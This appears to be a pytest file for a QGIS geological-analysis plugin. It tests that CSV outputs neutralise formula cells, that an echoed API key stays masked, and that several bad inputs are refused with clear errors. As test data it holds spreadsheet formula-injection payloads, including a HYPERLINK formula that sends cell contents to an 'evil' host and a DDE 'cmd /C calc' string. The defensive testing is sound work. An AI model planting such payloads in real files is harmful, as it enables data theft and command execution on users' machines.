"""Hostile probes of what a run writes and says (issue 46, items 3, 4, 10, 11 and part of 12): formula cells in
every CSV, the API key echoed by a server, a token budget smaller than the first request, validation deposits
outside the analysed data, a million-row deposits table, a silent server's timeout and a question given as a JSON
list. Real files, a real loopback model server (127.0.0.1), lodestar:analyze through real Processing; every refusal
is a non-zero exit with one line."""
from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import time
from pathlib import Path

import geopandas as gpd
import numpy as np
import pytest
from shapely.geometry import Point

from lodestar.tests.fakes.openai_server import FakeOpenAIServer, Reply, by_role
from lodestar.tests.fakes.sta_cot_scripts import (
    ACCEPT_A,
    EVIDENCE,
    LOCALIZATION,
    PLAN,
    copy_sample,
    judge_targets,
    porphyry_script,
)

ROOT = Path(__file__).resolve().parents[2]
KEY = "sk-echoed-SECRET-46464646"
HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"x")'
CALC = "=cmd|' /C calc'!A0"
UTM = "EPSG:32612"
INSIDE = [(569000.0, 3333000.0), (574000.0, 3338000.0)]  # within the sample's analysed extent
EXTENT = "(567648, 3331840, 576048, 3339850)"  # where all its layers overlap
OUTSIDE = (600000.0, 3400000.0)


def _outputs(folder: Path) -> dict:
    return {"OUTPUT_ZONES": str(folder / "zones.gpkg"), "OUTPUT_NODES": str(folder / "nodes.gpkg"),
            "OUTPUT_EDGES": str(folder / "edges.gpkg"), "OUTPUT_PROSPECTIVITY": str(folder / "prospectivity.gpkg"),
            "OUTPUT_REPORT": str(folder / "report.html"), "OUTPUT_RECORD": str(folder / "record.json"),
            "OUTPUT_FAVOURABILITY": str(folder / "favourability.tif"), "OUTPUT_WEIGHTS": str(folder / "weights.csv")}


def _openai(server, **extra) -> dict:
    return {"BACKEND": 1, "BASE_URL": server.base_url, "API_KEY": KEY, "PLANNER_MODEL": "m", "EXECUTOR_MODEL": "m",
            "VERIFIER_MODEL": "m", "MAX_ROUNDS": 1, **extra}


def _console():
    """A Processing feedback that keeps every line an algorithm shows (what qgis_process prints)."""
    from qgis.core import QgsProcessingFeedback

    class Console(QgsProcessingFeedback):
        def __init__(self):
            super().__init__()
            self.lines: list[str] = []

        def pushInfo(self, info):  # noqa: N802 - QGIS API
            self.lines.append(info)

        def pushWarning(self, warning):  # noqa: N802
            self.lines.append(f"WARNING: {warning}")

        def reportError(self, error, fatalError=False):  # noqa: N802, N803
            self.lines.append(f"ERROR: {error}")

        def pushCommandInfo(self, info):  # noqa: N802
            self.lines.append(info)

        def pushDebugInfo(self, info):  # noqa: N802
            self.lines.append(info)

        def pushConsoleInfo(self, info):  # noqa: N802
            self.lines.append(info)

        def setProgressText(self, text):  # noqa: N802
            self.lines.append(text)

        @property
        def text(self) -> str:
            return "\n".join(self.lines)

    return Console()


def _case(tmp_path: Path, **changes) -> Path:
    """A private copy of the sample case with case.json fields changed (`layer_names`: name per layer index)."""
    folder = copy_sample(tmp_path / "case")
    data = json.loads((folder / "case.json").read_text(encoding="utf-8"))
    for index, name in (changes.pop("layer_names", None) or {}).items():
        data["layers"][index]["name"] = name
    data.update(changes)
    (folder / "case.json").write_text(json.dumps(data, indent=1), encoding="utf-8")
    return folder


def _deposits(folder: Path, points: list) -> Path:
    path = folder / "deposits.geojson"
    gpd.GeoDataFrame({"name": [f"d{i}" for i in range(len(points))]}, geometry=[Point(p) for p in points],
                     crs=UTM).to_crs("EPSG:4326").to_file(path, driver="GeoJSON")
    return path


def _rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


# ------------------------------------------------------------------------------- item 3: formula injection
def test_formula_cells_are_text_in_the_weights_and_the_batch_table(run, tmp_path):
    """A layer named =HYPERLINK(...) and a case id =cmd|' /C calc'!A0 (item 3): both were written as-is, so a
    spreadsheet opening weights.csv or results.csv ran them. Now each is text (a leading apostrophe, the OWASP
    rule) and negative numbers stay numbers."""
    case = _case(tmp_path / "cases", id=CALC, layer_names={1: HYPERLINK})
    result = run("lodestar:analyze_cases", {"CASES": str(case.parent), "BACKEND": 0, "MAX_ROUNDS": 1,
                                            "OUTPUT_FOLDER": str(tmp_path / "out"), "OUTPUT_TABLE": "memory:"})
    header, *rows = _rows(Path(result["OUTPUT_CSV"]))
    assert rows and rows[0][header.index("case_id")] == "'" + CALC
    assert rows[0][header.index("error")] == "" and rows[0][header.index("answer")] in ("A", "B")
    [weights] = (tmp_path / "out").glob("*/weights.csv")
    header, *rows = _rows(weights)
    layers = [row[0] for row in rows]
    assert "'" + HYPERLINK in layers and HYPERLINK not in layers
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d*)?(e[+-]?\d+)?", cell), cell


def test_formula_cells_are_text_in_a_vector_layer_written_as_csv(tmp_path):
    """A layer written as CSV (zones.csv, a Processing output) goes through the same rule: a zone description
    '@SUM(1+1)*cmd|' is text, a column named '+x' too, and -3.5 stays a number."""
    from lodestar.plugin.vector_io import write_vector

    frame = gpd.GeoDataFrame({"zone_id": ["z1", "-z2"], "description": ["@SUM(1+1)*cmd|' /C calc'!A0", "plain"],
                              "+x": ["\tTAB", "\rCR"], "score": [-3.5, 2.0]},
                             geometry=[Point(1, 2), Point(3, 4)], crs=UTM)
    header, *rows = _rows(write_vector(frame, tmp_path / "zones.csv"))
    assert "'+x" in header and "+x" not in header
    cells = {name: [row[header.index(name)] for row in rows] for name in header}
    assert cells["zone_id"] == ["z1", "'-z2"]
    assert cells["description"] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "plain"]
    assert cells["'+x"] == ["'\tTAB", "'\rCR"]
    assert [float(v) for v in cells["score"]] == [-3.5, 2.0]


# ------------------------------------------------------------------------- item 4: the key on the console
def test_a_server_that_echoes_the_key_never_gets_it_onto_the_console(run, tmp_path):
    """The server puts the bearer token it received into its answers (the executor's rationale, the verifier's):
    masked in the record and report before, printed in clear on the console step line (item 4). Now no line,
    message, record, report or cache holds it."""
    full = porphyry_script([ACCEPT_A])

    def observe(request):
        return {"rationale": f"I was called with {request.headers.get('authorization', '')}, and the tool worked.",
                "sub_inference": "Yes", "global_inference": "continue"}

    def verify(request):
        return dict(ACCEPT_A, rationale=f"Verified for {request.headers.get('authorization', '')}.")

    script = by_role({"planner": [PLAN], "executor/act": full, "executor/observe": observe, "verifier": verify,
                      "localization": lambda request: LOCALIZATION, "evidence": lambda request: EVIDENCE,
                    "verifier/targets": judge_targets})
    console = _console()
    with FakeOpenAIServer(script) as server:
        result = run("lodestar:analyze", {"CASE": str(copy_sample(tmp_path / "case") / "case.json"),
                                          **_openai(server), **_outputs(tmp_path / "out")}, feedback=console)
        sent = [r.headers.get("authorization") for r in server.chat_requests]
    assert sent and set(sent) == {f"Bearer {KEY}"}  # the key did go to the server, and came back
    assert result["ANSWER"] == "A"
    step_lines = [line for line in console.lines if "I was called with" in line]
    assert step_lines and all("Bearer ***" in line for line in step_lines)
    assert KEY not in console.text
    for name in ("record.json", "report.html"):
        assert KEY not in (tmp_path / "out" / name).read_text(encoding="utf-8")


# ------------------------------------------------------------------ item 10: a budget below the first request
def test_a_budget_below_the_first_request_is_a_non_zero_exit_that_says_so(run, tmp_path):
    """MAX_TOKENS under the planner's first request: the console showed only 'Answer: Failed ... 0 round(s)', the
    algorithm succeeded, and the record said 'No targets: the answer rules the deposit out' (item 10). Now the
    algorithm fails with one line saying the budget stopped the first call, no request is sent, and the record
    claims nothing that did not happen."""
    from qgis.core import QgsProcessingException

    console = _console()
    with FakeOpenAIServer(lambda request: Reply(content=PLAN)) as server:
        with pytest.raises(QgsProcessingException) as caught:
            run("lodestar:analyze", {"CASE": str(copy_sample(tmp_path / "case") / "case.json"),
                                     **_openai(server, MAX_TOKENS=1000), **_outputs(tmp_path / "out")},
                feedback=console)
        sent = server.chat_requests
    message = str(caught.value)
    assert sent == []
    assert "\n" not in message
    assert message.startswith("The run could not start: no model call fits its budget. The planner request was not "
                              "sent: it needs about ")
    assert "budget of 1000 tokens" in message and message.endswith(f"The run record is {tmp_path / 'out'}"
                                                                   "/record.json.")
    assert "Answer:" not in console.text and "round(s)" not in console.text
    record = json.loads((tmp_path / "out" / "record.json").read_text(encoding="utf-8"))
    assert record["result"]["answer"] == "Failed" and record["usage"]["planner"]["calls"] == 0
    notes = " ".join(record["result"]["notes"])
    assert "rules the deposit out" not in notes and "budget of 1000 tokens" in notes
    assert not (tmp_path / "out" / "zones.gpkg").exists()


def test_qgis_process_exits_non_zero_when_the_budget_stops_the_first_call(tmp_path):
    """The same through the real `qgis_process`: before, it printed 'Answer: Failed ...' and exited 0."""
    outputs = [f"{key}={value}" for key, value in _outputs(tmp_path / "out").items()]
    with FakeOpenAIServer(lambda request: Reply(content=PLAN)) as server:
        done = subprocess.run([str(ROOT / "scripts" / "qgis_process.sh"), "run", "lodestar:analyze", "--",
                               f"CASE={copy_sample(tmp_path / 'case') / 'case.json'}", "BACKEND=1",
                               f"BASE_URL={server.base_url}", "PLANNER_MODEL=m", "EXECUTOR_MODEL=m", "VERIFIER_MODEL=m",
                               "MAX_TOKENS=1000", *outputs], capture_output=True, text=True, timeout=300,
                              env={**os.environ, "LODESTAR_API_KEY": KEY})
        sent = server.chat_requests
    printed = done.stdout + done.stderr
    assert done.returncode != 0, printed[-2000:]
    [line] = [text for text in printed.splitlines() if text.startswith("ERROR:")]
    assert "The run could not start: no model call fits its budget." in line and "budget of 1000 tokens" in line
    assert "Answer:" not in printed and sent == [] and KEY not in printed


def test_no_targets_after_a_failed_answer_never_says_the_answer_ruled_them_out(tmp_path):
    """A plan that never comes (the planner's answer unusable): the answer is Failed, and the note says no answer
    was reached, not that 'the answer rules the deposit out'."""
    from lodestar.models import run_analysis
    from lodestar.plugin.analysis import AnalysisRequest, BackendSettings
    from lodestar.plugin.request.case import read_case

    case = read_case(copy_sample(tmp_path / "case"))
    with FakeOpenAIServer(lambda request: Reply(content="no JSON here, sorry")) as server:
        settings = BackendSettings(backend="openai", base_url=server.base_url, api_key=KEY,
                                   models={"planner": "m", "executor": "m", "verifier": "m"})
        result = run_analysis(AnalysisRequest(case.layers, case.question, tmp_path / "out", choices=case.choices,
                                              settings=settings, max_rounds=1))
    assert result.answer == "Failed"
    assert not [note for note in result.notes if "rules the deposit out" in note]
    assert [note for note in result.notes if note.startswith("No targets: no answer was reached")]


# ---------------------------------------------------------- item 11: validation deposits outside the data
def test_validation_deposits_outside_the_analysed_data_never_block_the_answer(run, tmp_path):
    """The one known deposit lies outside the analysed extent and no calibration is asked: the whole run was
    refused ('None of the 1 known deposits ... lies within the analysed extent', item 11). Now it answers, says
    which deposit it left out and why, and validates on none."""
    case = _case(tmp_path)
    _deposits(case, [OUTSIDE])
    console = _console()
    result = run("lodestar:analyze", {"CASE": str(case / "case.json"), **_outputs(tmp_path / "out")},
                 feedback=console)
    assert result["ANSWER"] in ("A", "B")
    [warning] = [line for line in console.lines if "left out of the validation" in line]
    assert warning == ("WARNING: Warning: 1 of the 1 known deposits is left out of the validation: 1 lies outside "
                       f"the analysed extent {EXTENT} (deposit 1 at (600000, 3400000)); no deposit is left to validate "
                       "on, so the surface is not validated. If any should lie inside, check the deposits' CRS.")
    record = json.loads((tmp_path / "out" / "record.json").read_text(encoding="utf-8"))
    assert record["favourability"]["validation"]["knowledge"]["deposits"] == 0
    assert any("deposit 1 at (600000, 3400000)" in note for note in record["result"]["notes"])


def test_validation_runs_on_the_deposits_inside_and_names_the_others(run, tmp_path):
    case = _case(tmp_path)
    _deposits(case, [INSIDE[0], OUTSIDE, INSIDE[1]])
    console = _console()
    run("lodestar:analyze", {"CASE": str(case / "case.json"), **_outputs(tmp_path / "out")}, feedback=console)
    [warning] = [line for line in console.lines if "left out of the validation" in line]
    assert "1 of the 3 known deposits is left out" in warning and "(deposit 2 at (600000, 3400000))" in warning
    assert "the validation uses the 2 inside" in warning
    record = json.loads((tmp_path / "out" / "record.json").read_text(encoding="utf-8"))
    assert record["favourability"]["validation"]["knowledge"]["deposits"] == 2


def test_a_calibration_without_deposits_inside_is_refused_before_any_work(run, tmp_path):
    """Calibration needs the deposits: with none inside the analysed extent the run is refused with one line,
    before any model call or file."""
    from qgis.core import QgsProcessingException

    case = _case(tmp_path)
    _deposits(case, [OUTSIDE, INSIDE[0]])
    with pytest.raises(QgsProcessingException) as caught:
        run("lodestar:analyze", {"CASE": str(case / "case.json"), "CALIBRATE": 1, **_outputs(tmp_path / "out")})
    message = str(caught.value)
    assert "\n" not in message
    assert message.startswith(f"Calibration needs at least 2 known deposits within the analysed extent {EXTENT}, "
                              "and 1 of the 2 in ")
    assert "turn calibration off to validate on the deposits inside" in message
    assert not (tmp_path / "out" / "record.json").exists()


# ------------------------------------------------------------------- item 12: a million-row deposits table
@pytest.mark.timing
def test_a_large_deposits_table_is_read_in_one_vectorised_pass(tmp_path):
    """Deposits as a CSV of longitude / latitude: 1e6 rows took 281 s through OGR and one shapely point per row
    (item 12). 300,000 rows are now read, checked and transformed in a few seconds, to the same coordinates."""
    from pyproj import Transformer

    from lodestar.plugin.raster_io import RasterReader
    from lodestar.plugin.runs.run import _deposit_points

    grid = RasterReader(copy_sample(tmp_path / "case") / "aloh.tif").grid
    rng = np.random.default_rng(46)
    n = 300_000
    x, y = rng.uniform(567700, 576000, n), rng.uniform(3331400, 3340400, n)
    lon, lat = Transformer.from_crs(UTM, "EPSG:4326", always_xy=True).transform(x, y)
    lines = [f"d{i};{a:.7f};{b:.7f}".replace(".", ",") if i % 1000 == 0 else f"d{i};{a:.7f};{b:.7f}"
             for i, (a, b) in enumerate(zip(lon, lat))]  # decimal commas in some rows, semicolons, a BOM
    path = tmp_path / "deposits.csv"
    path.write_text("Name;Longitude;Latitude\n" + "\n".join(lines) + "\nbroken;;\n", encoding="utf-8-sig")
    started = time.perf_counter()
    points = _deposit_points(path, grid)
    seconds = time.perf_counter() - started
    assert len(points) == n
    assert np.allclose(np.asarray(points), np.column_stack([x, y]), atol=0.05)
    assert seconds < 6.0, f"{n} deposits took {seconds:.1f} s"


# -------------------------------------------------- item 12: a silent server's timeout, a question as a list
def test_a_silent_server_message_rounds_its_durations(run, tmp_path):
    """The last attempt of a call is cut to what its deadline leaves: the message said 'did not answer within
    56.9556 s' (item 12). Durations are now given to 2 significant digits."""
    from qgis.core import QgsProcessingException

    from lodestar.models.llm_client import _TimedOut

    assert str(_TimedOut(56.9556)) == "no answer within 57 s"
    with FakeOpenAIServer(lambda request: Reply({"steps": []}, delay_s=3600)) as server:
        with pytest.raises(QgsProcessingException) as caught:
            run("lodestar:analyze", {"CASE": str(copy_sample(tmp_path / "case") / "case.json"),
                                     **_openai(server, TIMEOUT=1, ATTEMPTS=2, DEADLINE=2.5),
                                     **_outputs(tmp_path / "out")})
    message = str(caught.value)
    found = re.search(r"did not answer within (\S+) s \([12] attempts?[^)]*\): a timeout", message)
    assert found, message
    assert re.fullmatch(r"0\.\d\d?|[12](\.\d)?", found.group(1)), message  # e.g. 0.47, never 0.471832
    assert "\n" not in message and not re.search(r"\d\.\d{3,} s", message)


def test_a_question_given_as_a_json_list_is_refused_with_one_line(run, tmp_path):
    """case.json's "question" as a list was silently turned into its Python text "['Can ...', 'A. Yes']" and
    answered (item 12). Now it is refused, naming the field, before any work."""
    from qgis.core import QgsProcessingException

    question = ["Can porphyry copper deposits be detected here?", "A. Yes", "B. No"]
    case = _case(tmp_path, question=question)
    with pytest.raises(QgsProcessingException) as caught:
        run("lodestar:analyze", {"CASE": str(case / "case.json"), **_outputs(tmp_path / "out")})
    message = str(caught.value)
    assert message == (f"{case / 'case.json'}: 'question' must be text (one string, its choices after 'Answer:'), "
                       f"not a list ({json.dumps(question)[:80]}); write it as one string.")
    assert not (tmp_path / "out").exists()
